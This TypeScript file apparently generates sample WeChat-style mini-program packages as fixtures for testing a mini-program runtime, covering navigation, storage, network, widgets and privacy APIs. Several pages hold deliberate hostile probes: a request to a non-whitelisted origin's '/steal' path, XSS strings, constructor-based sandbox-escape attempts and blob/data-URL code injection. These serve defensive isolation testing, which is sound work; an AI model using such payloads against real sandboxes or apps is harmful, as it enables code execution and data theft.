// A WeChat-style sample mini-program (source, compiled by the real compiler in the tests): a
// counter, a keyed list with inputs, navigation, storage, requests and isolation probes, plus
// filler pages so the package has `pages` pages in total (20 for the cold-start benchmark).

export interface SampleOptions {
  /** Whitelisted API origin (http://127.0.0.1:port). */
  api: string;
  /** Origin that is NOT whitelisted. */
  evil: string;
  /** Tag the app writes to storage (tells two apps apart). */
  tag: string;
  pages?: number;
  /** Adds pages/big/big with a keyed list of this many rows (setData round-trip benchmark). */
  bigList?: number;
}

export function sampleSource(o: SampleOptions): Record<string, string> {
  const total = Math.max(o.pages ?? 3, 3);
  const filler = Array.from({ length: total - 3 }, (_, i) => `pages/p${i + 1}/p${i + 1}`);
  const files: Record<string, string> = {
    'app.json': JSON.stringify({
      pages: ['pages/index/index', 'pages/detail/detail', 'pages/probe/probe', ...filler],
      window: { navigationBarTitleText: 'Sample' },
    }),
    'app.js': `App({
  globalData: { tag: ${JSON.stringify(o.tag)} },
  onLaunch() {
    var self = this;
    this.launched = true;
    this.updates = [];
    var um = wx.getUpdateManager();
    um.onCheckForUpdate(function (r) { self.updates.push('check:' + r.hasUpdate); });
    um.onUpdateReady(function () { self.updates.push('ready'); });
  }
});`,
    'app.wxss': 'page { font-size: 14px; } .row { padding: 4rpx; }',
    'pages/index/index.wxml': `
<view id="count" class="count" bindtap="inc">count {{count}}</view>
<button id="reverse" bindtap="reverse">reverse</button>
<view class="list">
  <view wx:for="{{items}}" wx:key="id" class="row" data-id="{{item.id}}"><text>{{item.name}}</text><input class="in" value="{{item.name}}"/></view>
</view>
<navigator id="go" url="/pages/detail/detail?id=7">detail</navigator>
<button id="save" bindtap="save">save</button>
<view id="stored">{{stored}}</view>
<button id="req-ok" bindtap="reqOk">ok</button>
<button id="req-evil" bindtap="reqEvil">evil</button>
<view id="req-result">{{reqResult}}</view>
<view id="probe">{{probe}}</view>
<view id="xss">{{html}}</view>
<button id="show-updates" bindtap="showUpdates">updates</button>
<view id="updates">{{updates}}</view>
`,
    'pages/index/index.js': `
Page({
  data: {
    count: 0,
    items: [{ id: 'a', name: 'alpha' }, { id: 'b', name: 'beta' }, { id: 'c', name: 'gamma' }, { id: 'd', name: 'delta' }],
    stored: '', reqResult: '', probe: '', html: '<img src=x onerror="parent.pwned=1">'
  },
  onLoad() {
    var g = typeof globalThis !== 'undefined' ? globalThis : {};
    var probe = ['fetch', 'XMLHttpRequest', 'WebSocket', 'indexedDB', 'caches', 'importScripts', 'localStorage', 'document', 'Worker']
      .map(function (k) { return k + ':' + typeof g[k]; }).join(',');
    this.setData({ probe: probe, stored: String(wx.getStorageSync('secret') || '') });
  },
  inc() { this.setData({ count: this.data.count + 1 }); },
  showUpdates() { this.setData({ updates: getApp().updates.join(',') }); },
  reverse() { this.setData({ items: this.data.items.slice().reverse() }); },
  save() {
    wx.setStorageSync('secret', getApp().globalData.tag);
    this.setData({ stored: wx.getStorageSync('secret') });
  },
  reqOk() {
    var self = this;
    wx.request({ url: ${JSON.stringify(`${o.api}/hello`)},
      success: function (r) { self.setData({ reqResult: 'ok:' + r.data.msg }); },
      fail: function (e) { self.setData({ reqResult: 'fail:' + e.errMsg }); } });
  },
  reqEvil() {
    var self = this;
    wx.request({ url: ${JSON.stringify(`${o.evil}/steal?c=1`)},
      success: function () { self.setData({ reqResult: 'evil-ok' }); },
      fail: function (e) { self.setData({ reqResult: 'fail:' + e.errMsg }); } });
  }
});
`,
    'pages/detail/detail.wxml':
      '<view id="detail">detail {{id}}</view><button id="back" bindtap="back">back</button>',
    'pages/detail/detail.js': `Page({ data: { id: '' }, onLoad(q) { this.setData({ id: q.id }); }, back() { wx.navigateBack(); } });`,
    'pages/probe/probe.wxml': '<view id="escapes">{{escapes}}</view>',
    // Hostile code: tries to get back to the host realm through every constructor it can reach.
    'pages/probe/probe.js': `
function attempt(name, fn) {
  try { var v = fn(); return name + ':' + (v === undefined ? 'undefined' : 'ESCAPED'); }
  catch (e) { return name + ':' + (e && e.name); }
}
Page({
  data: { escapes: '' },
  onLoad() {
    var self = this;
    var out = [
      attempt('Function', function () { return Function('return typeof process')() === 'object' ? 1 : undefined; }),
      attempt('wx.constructor', function () { return wx.constructor.constructor('return process')(); }),
      attempt('setData.constructor', function () { return self.setData.constructor('return process')(); }),
      attempt('eval', function () { return (0, eval)('1'); })
    ];
    this.setData({ escapes: out.join(',') });
  }
});`,
  };
  if (o.bigList) {
    const app = JSON.parse(files['app.json']!) as { pages: string[] };
    app.pages.push('pages/big/big');
    files['app.json'] = JSON.stringify(app);
    files['pages/big/big.wxml'] =
      '<button id="all" bindtap="reverseAll">all</button><button id="one" bindtap="touchOne">one</button>' +
      '<view class="list"><view wx:for="{{list}}" wx:key="id" class="row"><text>{{item.id}}</text> <text>{{item.label}}</text></view></view>';
    files['pages/big/big.js'] = `
var N = ${o.bigList};
function make() { var a = []; for (var i = 0; i < N; i++) a.push({ id: i, label: 'row ' + i }); return a; }
Page({
  data: { list: make(), n: 0 },
  reverseAll() { this.setData({ list: this.data.list.slice().reverse() }); },
  touchOne() { this.data.n++; this.setData({ ['list[' + (N >> 1) + '].label']: 'touched ' + this.data.n }); }
});`;
  }
  filler.forEach((p, i) => {
    const next = filler[i + 1];
    files[`${p}.wxml`] =
      '<view class="title">{{title}}</view><view wx:for="{{rows}}" wx:key="*this" class="row">{{index}}: {{item}}</view>' +
      (next ? `<navigator id="next" url="/${next}">next</navigator>` : '');
    files[`${p}.js`] =
      `Page({ data: { title: ${JSON.stringify(p)}, rows: ${JSON.stringify(Array.from({ length: 20 }, (_, i) => `row ${i}`))} } });`;
    files[`${p}.wxss`] = '.title { font-weight: bold; }';
  });
  return files;
}

/**
 * A mini-program with three subpackages: `shop` (its own title, preloads `more` when shown, a
 * component with externalClasses),
 * `more`, and `broken` (the tests serve it with a corrupted signature).
 */
export function subpackageSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({
      pages: ['pages/index/index'],
      subpackages: [
        { root: 'shop', name: 'shop', pages: ['list/list'] },
        { root: 'more', name: 'more', pages: ['x/x'] },
        { root: 'broken', name: 'broken', pages: ['x/x'] },
      ],
      preloadRule: { 'shop/list/list': { network: 'all', packages: ['more'] } },
      window: { navigationBarTitleText: 'Sub sample' },
    }),
    'app.js': 'App({});',
    'pages/index/index.wxml':
      '<view id="count" bindtap="inc">count {{count}}</view>' +
      '<navigator id="shop" url="/shop/list/list?cat=tea">shop</navigator>' +
      '<button id="broken" bindtap="openBroken">broken</button><view id="nav-error">{{navError}}</view>',
    'pages/index/index.js': `Page({
  data: { count: 0, navError: '' },
  inc() { this.setData({ count: this.data.count + 1 }); },
  showUpdates() { this.setData({ updates: getApp().updates.join(',') }); },
  openBroken() {
    var self = this;
    wx.navigateTo({ url: '/broken/x/x', fail: function (e) { self.setData({ navError: e.errMsg }); } });
  }
});`,
    'shop/list/list.json': JSON.stringify({
      navigationBarTitleText: 'Shop',
      usingComponents: { 'shop-tag': '/shop/components/tag/tag' },
    }),
    'shop/list/list.wxml':
      '<view id="cat">category {{cat}}</view><view class="item" wx:for="{{items}}" wx:key="*this">{{item}}</view>' +
      '<shop-tag tag-class="hot" label="new"/>',
    'shop/list/list.js': `Page({ data: { cat: '', items: ['green', 'black'] }, onLoad(q) { this.setData({ cat: q.cat }); } });`,
    'shop/list/list.wxss': '.item { color: green; } .hot { color: rgb(200, 0, 0); }',
    // a component with an external class: the page's ".hot" styles its inner view
    'shop/components/tag/tag.json': JSON.stringify({ component: true }),
    'shop/components/tag/tag.js':
      "Component({ externalClasses: ['tag-class'], properties: { label: String } });",
    'shop/components/tag/tag.wxml': '<view id="tag-inner" class="tag-class">{{label}}</view>',
    'more/x/x.wxml': '<view id="more">more</view>',
    'more/x/x.js': 'Page({});',
    'broken/x/x.wxml': '<view>never shown</view>',
    'broken/x/x.js': 'Page({});',
  };
}

/** A mini-program that asks for privacy scopes: the result of each call lands in #out. */
export function privacySource(): Record<string, string> {
  const call = (id: string, api: string, args: string) =>
    `${id}() { var self = this; wx.${api}(Object.assign(${args}, {
      success: function (r) { self.setData({ out: '${id}:' + JSON.stringify(r) }); },
      fail: function (e) { self.setData({ out: '${id}:' + e.errMsg }); } })); },`;
  return {
    'app.json': JSON.stringify({
      pages: ['pages/index/index'],
      window: { navigationBarTitleText: 'Branches' },
    }),
    'app.js': 'App({});',
    'pages/index/index.wxml': ['auth', 'loc', 'setting', 'open', 'cam', 'clip']
      .map((id) => `<button id="${id}" bindtap="${id}">${id}</button>`)
      .concat('<view id="out">{{out}}</view>')
      .join('\n'),
    'pages/index/index.js': `Page({
  data: { out: '' },
  ${call('auth', 'authorize', "{ scope: 'scope.userLocation' }")}
  ${call('loc', 'getLocation', "{ type: 'wgs84' }")}
  ${call('setting', 'getSetting', '{}')}
  ${call('open', 'openSetting', '{}')}
  ${call('cam', 'authorize', "{ scope: 'scope.camera' }")}
  ${call('clip', 'setClipboardData', "{ data: 'acct 6222' }")}
});`,
  };
}

/**
 * A mini-program that builds code at run time and tries every late script source from its logic
 * realm; #late lists what each attempt did, and whether the code ever ran.
 */
export function lateCodeSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({ pages: ['pages/index/index'] }),
    'app.js': 'App({});',
    'pages/index/index.wxml':
      '<button id="try" bindtap="attempt">try</button><view id="late">{{late}}</view>',
    'pages/index/index.js': `
var code = ['self', '.pwned = "ran"'].join('');
function outcome(p) {
  return Promise.resolve().then(p).then(function () { return 'loaded'; }, function (e) { return 'refused:' + (e && e.name); });
}
Page({
  data: { late: '' },
  attempt: function () {
    var self = this;
    var g = typeof globalThis !== 'undefined' ? globalThis : {};
    Promise.all([
      outcome(function () { return import(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); }),
      outcome(function () { return import('data:text/javascript,' + encodeURIComponent(code)); }),
      outcome(function () { g.importScripts('data:text/javascript,' + encodeURIComponent(code)); }),
      outcome(function () { return new g.Worker('data:text/javascript,' + encodeURIComponent(code)); }),
    ]).then(function (r) {
      self.setData({ late: r.join(' ') + ' pwned:' + String(g.pwned) + ' createObjectURL:' + typeof URL.createObjectURL });
    });
  }
});`,
  };
}

/**
 * A mini-program whose code fails in every way WeChat's base library survives: a throwing event
 * handler, a throwing timer, a rejected promise nobody handles, a throwing wx callback and a
 * module whose factory throws. App.onError / onUnhandledRejection write what they saw into
 * `global` and onto the page; `#count` shows the realm still answers.
 */
export function resilienceSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({ pages: ['pages/index/index'] }),
    'app.js': `
function show() {
  var page = getCurrentPages().slice(-1)[0];
  if (page) page.setData({ errors: global.errors.join(' | '), rejections: global.rejections.join(' | ') });
}
global.errors = [];
global.rejections = [];
App({
  onError: function (m) { global.errors.push(String(m).split('\\n')[0]); show(); },
  onUnhandledRejection: function (e) { global.rejections.push(String(e.reason && e.reason.message || e.reason)); show(); }
});`,
    'utils/bad.js': `global.badRuns = (global.badRuns || 0) + 1; throw new Error('bad module run ' + global.badRuns);`,
    'pages/index/index.wxml': `
<view id="count" bindtap="inc">count {{count}}</view>
<button id="handler" bindtap="boom">handler</button>
<button id="timer" bindtap="timer">timer</button>
<button id="reject" bindtap="reject">reject</button>
<button id="callback" bindtap="callback">callback</button>
<button id="module" bindtap="module">module</button>
<view id="errors">{{errors}}</view>
<view id="rejections">{{rejections}}</view>
<view id="modules">{{modules}}</view>`,
    'pages/index/index.js': `
Page({
  data: { count: 0, errors: '', rejections: '', modules: '' },
  inc: function () { this.setData({ count: this.data.count + 1 }); },
  boom: function () { throw new Error('handler boom'); },
  timer: function () { setTimeout(function () { throw new Error('timer boom'); }, 0); },
  reject: function () { Promise.reject(new Error('nobody handles this')); },
  callback: function () { wx.getSystemInfo({ success: function () { throw new Error('callback boom'); } }); },
  module: function () {
    var seen = [];
    for (var i = 0; i < 2; i++) {
      try { require('../../utils/bad.js'); seen.push('loaded'); } catch (e) { seen.push(e.message); }
    }
    this.setData({ modules: seen.join(', ') });
  }
});`,
  };
}

const icon = (fill: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24"><rect width="24" height="24" fill="${fill}"/></svg>`;

/**
 * Two tab pages and a plain page, with SVG tab icons from the package: the host-drawn tab bar,
 * onTabItemTap, the tab bar APIs, showActionSheet, showModal, setNavigationBarColor, and an API
 * the web host has no default for.
 */
export function tabBarSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({
      pages: ['pages/home/home', 'pages/mine/mine', 'pages/plain/plain'],
      tabBar: {
        color: '#999999',
        selectedColor: '#ff0000',
        backgroundColor: '#fafafa',
        list: [
          {
            pagePath: 'pages/home/home',
            text: 'Home',
            iconPath: 'icons/home.svg',
            selectedIconPath: 'icons/home-on.svg',
          },
          { pagePath: 'pages/mine/mine', text: 'Mine', iconPath: 'icons/mine.svg' },
        ],
      },
    }),
    'app.js': 'App({});',
    'icons/home.svg': icon('#999999'),
    'icons/home-on.svg': icon('#ff0000'),
    'icons/mine.svg': icon('#999999'),
    'pages/home/home.wxml': `
<view id="home">home</view>
<button id="badge" bindtap="badge">badge</button>
<button id="sheet" bindtap="sheet">sheet</button>
<button id="modal" bindtap="modal">modal</button>
<button id="color" bindtap="color">color</button>
<button id="phone" bindtap="phone">phone</button>
<button id="bad-index" bindtap="badIndex">bad index</button>
<navigator id="plain" url="/pages/plain/plain">plain</navigator>
<view id="result">{{result}}</view>`,
    'pages/home/home.js': `
Page({
  data: { result: '' },
  show: function (r) { this.setData({ result: typeof r === 'string' ? r : JSON.stringify(r) }); },
  badge: function () {
    var self = this;
    wx.setTabBarBadge({ index: 1, text: '3' }).then(function (r) { self.show(r.errMsg); });
  },
  sheet: function () {
    var self = this;
    wx.showActionSheet({ itemList: ['first', 'second'] }).then(function (r) { self.show('tapIndex ' + r.tapIndex); }, function (e) { self.show(e.errMsg); });
  },
  modal: function () {
    var self = this;
    wx.showModal({ title: 'Sure?', content: 'Really', confirmText: 'Yes' }).then(function (r) { self.show(r.confirm ? 'confirmed' : 'cancelled'); });
  },
  color: function () {
    var self = this;
    wx.setNavigationBarColor({ frontColor: '#ffffff', backgroundColor: '#123456', success: function (r) { self.show(r.errMsg); } });
  },
  phone: function () {
    var self = this;
    wx.makePhoneCall({ phoneNumber: '10086', fail: function (e) { self.show(e.errMsg); } });
  },
  badIndex: function () {
    var self = this;
    wx.setTabBarBadge({ index: 7, text: '1', fail: function (e) { self.show(e.errMsg); } });
  }
});`,
    'pages/mine/mine.wxml': '<view id="mine">mine {{taps}}</view>',
    'pages/mine/mine.js': `
Page({
  data: { taps: '' },
  onTabItemTap: function (t) { this.setData({ taps: this.data.taps + t.index + ':' + t.pagePath + ':' + t.text + ';' }); }
});`,
    'pages/plain/plain.wxml': '<view id="plain-page">plain</view>',
    'pages/plain/plain.js': 'Page({});',
  };
}

/**
 * The network APIs against the test's API server: downloadFile (with progress, shown through
 * its temporary path), uploadFile of that file, a WebSocket round trip, getNetworkType and a
 * download outside the domain list.
 */
export function networkSource(apiUrl: string): Record<string, string> {
  return {
    'app.json': JSON.stringify({ pages: ['pages/net/net'] }),
    'app.js': 'App({});',
    'pages/net/net.wxml': `
<button id="download" bindtap="download">download</button>
<image id="pic" wx:if="{{pic}}" src="{{pic}}" mode="widthFix" />
<button id="upload" bindtap="upload">upload</button>
<button id="socket" bindtap="socket">socket</button>
<button id="refused" bindtap="refused">refused</button>
<button id="type" bindtap="type">type</button>
<view id="result">{{result}}</view>
<view id="progress">{{progress}}</view>
<view id="closed">{{closed}}</view>`,
    'pages/net/net.js': `
const API = ${JSON.stringify(apiUrl)};
Page({
  data: { result: '', progress: -1, pic: '', closed: '' },
  download() {
    const task = wx.downloadFile({
      url: API + '/image.svg',
      success: (r) => this.setData({ pic: r.tempFilePath, result: 'downloaded ' + r.statusCode + ' ' + r.tempFilePath.startsWith('wxfile://tmp/') }),
      fail: (e) => this.setData({ result: e.errMsg }),
    });
    task.onProgressUpdate((p) => this.setData({ progress: p.progress }));
  },
  async upload() {
    try {
      const r = await wx.uploadFile({ url: API + '/upload', filePath: this.data.pic, name: 'photo', formData: { user: 'u1' } });
      this.setData({ result: r.errMsg + ' ' + r.statusCode + ' ' + r.data });
    } catch (e) {
      this.setData({ result: e.errMsg });
    }
  },
  socket() {
    const s = wx.connectSocket({ url: API.replace('https://', 'wss://') + '/socket' });
    s.onOpen(() => s.send({ data: 'ping' }));
    s.onMessage((m) => {
      this.setData({ result: 'socket ' + m.data });
      s.close({ code: 4000, reason: 'done' });
    });
    s.onClose((c) => this.setData({ closed: c.code + ' ' + c.reason }));
  },
  refused() {
    wx.downloadFile({ url: 'https://elsewhere.example.com/a.png', fail: (e) => this.setData({ result: e.errMsg }) });
  },
  type() {
    wx.getNetworkType().then((r) => this.setData({ result: 'type ' + r.networkType }));
  },
});`,
  };
}

/**
 * Component instance APIs: selectComponent / selectAllComponents (with `export`),
 * selectOwnerComponent, a selector query scoped to a component, a component's router (relative
 * to the component), wx.pageScrollTo, onPageScroll and onReachBottom, intersection observers; a
 * page with pull-down refresh.
 */
export function instanceApiSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({
      pages: ['pages/list/list', 'pages/sub/detail', 'pages/refresh/refresh'],
      window: { onReachBottomDistance: 100 },
    }),
    'app.js': 'App({});',
    'pages/list/list.json': JSON.stringify({
      usingComponents: { counter: '/components/counter/counter', panel: '/components/panel/panel' },
    }),
    'pages/list/list.wxml': `
<view id="result">{{result}}</view>
<view id="bottoms">{{bottoms}}</view>
<view id="seen">{{seen}}</view>
<view id="cells">{{cells}}</view>
<counter id="c1" class="ctr first" />
<counter id="c2" class="ctr" />
<panel id="panel" bind:measured="onMeasured" />
<view class="cell">p1</view><view class="cell">p2</view><view class="cell">p3</view>
<button id="select" bindtap="select">select</button>
<button id="measure" bindtap="measure">measure</button>
<button id="bad" bindtap="bad">bad selector</button>
<button id="scroll" bindtap="scroll">scroll</button>
<button id="route" bindtap="goDetail">route</button>
<view style="height: 3000px">tall</view>
<view id="end">end</view>`,
    'pages/list/list.js': `
Page({
  data: { result: '', bottoms: '', seen: '', cells: 0 },
  onReady: function () {
    var self = this;
    // #end starts far below the viewport: no report until it shows
    this.createIntersectionObserver().relativeToViewport().observe('#end', function (r) {
      self.setData({ seen: r.id + ' ' + (r.intersectionRatio > 0) + ' ' + (r.boundingClientRect.height > 0) });
    });
    var n = 0;
    wx.createIntersectionObserver(this, { observeAll: true }).relativeToViewport().observe('.cell', function () {
      self.setData({ cells: ++n });
    });
  },
  select: function () {
    var c = this.selectComponent('#c1');
    c.bump();
    var all = this.selectAllComponents('.ctr');
    var p = this.selectComponent('#panel');
    this.setData({ result: [all.length, c.id, all[1].id, p.kind, p.open(), String(this.selectComponent('.missing')), c.ownerRoute(), this.selectAllComponents('.ctr.first').length].join(' ') });
  },
  measure: function () {
    var self = this;
    this.createSelectorQuery().selectAll('.cell').boundingClientRect(function (rs) { self.pageCells = rs.length; }).exec();
    this.selectComponent('#panel').measure();
  },
  onMeasured: function (e) { this.setData({ result: 'page ' + this.pageCells + ' panel ' + e.detail }); },
  bad: function () {
    try { this.selectComponent('view .x'); this.setData({ result: 'no error' }); }
    catch (e) { this.setData({ result: e.message }); }
  },
  scroll: function () {
    var self = this;
    wx.pageScrollTo({ selector: '#end', duration: 0 }).then(function (r) { self.setData({ result: r.errMsg }); });
  },
  onPageScroll: function (e) { this.lastTop = e.scrollTop; },
  // onPageScroll came first, with the scroll position
  onReachBottom: function () { this.setData({ bottoms: (parseInt(this.data.bottoms || '0', 10) + 1) + ' ' + (this.lastTop > 2000) }); },
  goDetail: function () { this.selectComponent('#panel').go(); }
});`,
    'components/counter/counter.json': JSON.stringify({ component: true }),
    'components/counter/counter.wxml': '<view class="count">{{count}}</view>',
    'components/counter/counter.js': `
Component({
  data: { count: 0 },
  methods: {
    bump: function () { this.setData({ count: this.data.count + 1 }); },
    ownerRoute: function () { return this.selectOwnerComponent().route; }
  }
});`,
    'components/panel/panel.json': JSON.stringify({ component: true }),
    'components/panel/panel.wxml': '<view class="cell">a</view><view class="cell">b</view>',
    'components/panel/panel.js': `
Component({
  export: function () {
    var self = this;
    return {
      kind: 'panel',
      open: function () { return 'opened ' + self.id; },
      measure: function () { self.measure(); },
      go: function () { self.router.navigateTo({ url: '../../pages/sub/detail?from=panel' }); }
    };
  },
  methods: {
    measure: function () {
      var self = this;
      this.createSelectorQuery().selectAll('.cell').boundingClientRect(function (rs) { self.triggerEvent('measured', rs.length); }).exec();
    }
  }
});`,
    'pages/refresh/refresh.json': JSON.stringify({
      enablePullDownRefresh: true,
      backgroundTextStyle: 'light',
      backgroundColor: '#333333',
    }),
    'pages/refresh/refresh.wxml': `
<view id="refreshed" style="height: 200px">refreshed {{n}}</view>
<button id="start" bindtap="start">start</button>`,
    'pages/refresh/refresh.js': `
Page({
  data: { n: 0 },
  onPullDownRefresh: function () {
    var self = this;
    this.setData({ n: this.data.n + 1 });
    setTimeout(function () { wx.stopPullDownRefresh(); }, 100);
  },
  start: function () { wx.startPullDownRefresh(); }
});`,
    'pages/sub/detail.wxml': '<view id="from">from {{from}}</view>',
    'pages/sub/detail.js':
      'Page({ data: { from: "" }, onLoad: function (q) { this.setData({ from: q.from }); } });',
  };
}

/** Built-ins whose code is a page-frame chunk: a swiper (swipe, autoplay, current), rich-text, scroll-view, the animation attribute. */
export function widgetsSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({ pages: ['pages/plain/plain', 'pages/widgets/widgets'] }),
    'app.js': 'App({});',
    'pages/plain/plain.wxml': '<view id="plain">plain</view>',
    'pages/plain/plain.js': 'Page({});',
    'pages/widgets/widgets.wxml': `
<swiper id="banner" indicator-dots current="{{current}}" bindchange="changed" style="width: 300px; height: 100px">
  <swiper-item wx:for="{{slides}}" wx:key="*this"><view class="slide">{{item}}</view></swiper-item>
</swiper>
<swiper id="auto" autoplay circular interval="200" duration="50" bindchange="autoChanged" style="width: 300px; height: 50px">
  <swiper-item><view>x</view></swiper-item><swiper-item><view>y</view></swiper-item>
</swiper>
<rich-text id="rich" nodes="{{html}}" />
<button id="third" bindtap="third">third</button>
<view id="box" animation="{{ani}}" style="width: 20px; height: 20px">box</view>
<scroll-view id="list" scroll-y style="height: 100px" scroll-into-view="{{into}}" bindscrolltolower="lower"
  refresher-enabled refresher-triggered="{{refreshing}}" bindrefresherrefresh="refresh" bindrefresherrestore="restored">
  <view wx:for="{{rows}}" wx:key="*this" id="row{{item}}" style="height: 30px">row {{item}}</view>
</scroll-view>
<button id="into" bindtap="into">into</button>
<view id="scroll-log">{{scrollLog}}</view>
<button id="animate" bindtap="animateSteps">animate</button>
<view id="spin" style="width: 40px; height: 20px">spin</view>
<button id="keyframes" bindtap="keyframes">keyframes</button>
<button id="unframe" bindtap="unframe">clear</button>
<view id="animated">{{animated}}</view>
<view id="changes">{{changes}}</view>
<view id="auto-changes">{{autoChanges}}</view>`,
    'pages/widgets/widgets.js': `
Page({
  data: { slides: ['one', 'two', 'three'], current: 0, changes: '', autoChanges: 0, rows: [0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19], into: '', animated: '', refreshing: false, scrollLog: '', html: '<b onclick="steal()">bold</b><script>steal()</script>' },
  changed: function (e) { this.setData({ changes: this.data.changes + e.detail.current + ':' + e.detail.source + ';' }); },
  autoChanged: function (e) { if (e.detail.source === 'autoplay') this.setData({ autoChanges: this.data.autoChanges + 1 }); },
  third: function () { this.setData({ current: 2 }); },
  lower: function () { this.setData({ scrollLog: this.data.scrollLog + 'lower;' }); },
  refresh: function () {
    var self = this;
    this.setData({ refreshing: true, scrollLog: this.data.scrollLog + 'refresh;' });
    setTimeout(function () { self.setData({ refreshing: false }); }, 100);
  },
  restored: function () { this.setData({ scrollLog: this.data.scrollLog + 'restore;' }); },
  into: function () { this.setData({ into: 'row19' }); },
  keyframes: function () {
    var self = this;
    this.animate('#spin', [{ opacity: 1, rotate: 0 }, { opacity: 0.25, rotate: 10, ease: 'ease-out' }], 50, function () {
      self.setData({ animated: 'done' });
    });
  },
  unframe: function () {
    var self = this;
    this.clearAnimation('#spin', function () { self.setData({ animated: 'cleared' }); });
  },
  animateSteps: function () {
    var a = wx.createAnimation({ duration: 30, timingFunction: 'ease' });
    a.translateX(100).opacity(0.5).step().rotate(45).width(40).step({ duration: 20 });
    this.setData({ ani: a.export() });
  }
});`,
  };
}

/** Device and media APIs with the web host's defaults: file picker, image preview, vibration. */
export function mediaSource(): Record<string, string> {
  return {
    'app.json': JSON.stringify({ pages: ['pages/media/media'] }),
    'app.js': 'App({});',
    'img/a.svg': icon('#ff0000'),
    'pages/media/media.wxml': `
<button id="choose" bindtap="choose">choose</button>
<button id="media" bindtap="media">media</button>
<button id="preview" bindtap="preview">preview</button>
<button id="vibrate" bindtap="vibrate">vibrate</button>
<image wx:if="{{picked}}" id="picked" src="{{picked}}" style="width: 40px; height: 40px" />
<view id="result">{{result}}</view>`,
    'pages/media/media.js': `
Page({
  data: { result: '', picked: '' },
  choose: function () {
    var self = this;
    wx.chooseImage({ count: 2 }).then(function (r) {
      self.setData({ picked: r.tempFilePaths[0], result: r.tempFilePaths.length + ' ' + /^wxfile:\\/\\/tmp\\//.test(r.tempFilePaths[0]) + ' ' + r.tempFiles[0].size });
    }, function (e) { self.setData({ result: e.errMsg }); });
  },
  media: function () {
    var self = this;
    wx.chooseMedia({ mediaType: ['image'] }).then(function (r) { self.setData({ result: r.type + ' ' + r.tempFiles[0].fileType }); }, function (e) { self.setData({ result: e.errMsg }); });
  },
  preview: function () {
    var self = this;
    wx.previewImage({ urls: [this.data.picked, '/img/a.svg'], current: '/img/a.svg' }).then(function (r) { self.setData({ result: r.errMsg }); });
  },
  vibrate: function () {
    var self = this;
    wx.vibrateShort({ type: 'light' }).then(function (r) { self.setData({ result: r.errMsg }); });
  }
});`,
  };
}
